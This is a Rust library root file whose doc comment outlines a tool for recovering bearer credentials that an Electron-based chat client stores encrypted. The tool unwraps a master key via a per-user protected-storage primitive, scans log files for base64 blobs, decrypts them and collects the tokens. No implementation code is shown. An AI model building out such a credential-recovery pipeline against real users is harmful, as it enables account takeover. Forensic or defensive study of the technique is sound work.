//! Recovery of bearer credentials that an Electron-based chat client stores
//! encrypted at rest.
//!
//! The pipeline locates each installed client variant's storage root, unwraps
//! the variant's master key through a per-user protected-storage primitive,
//! scans the variant's log-segment files for tagged base64 ciphertext blobs,
//! decrypts each blob with the master key, and merges the recovered plaintext
//! credentials into one deduplicated collection.

pub mod aggregator;
pub mod client;
pub mod decryptor;
pub mod encoding;
pub mod errors;
pub mod game;
pub mod keyunwrap;
pub mod models;
pub mod protect;
pub mod scanner;
pub mod stream_key;
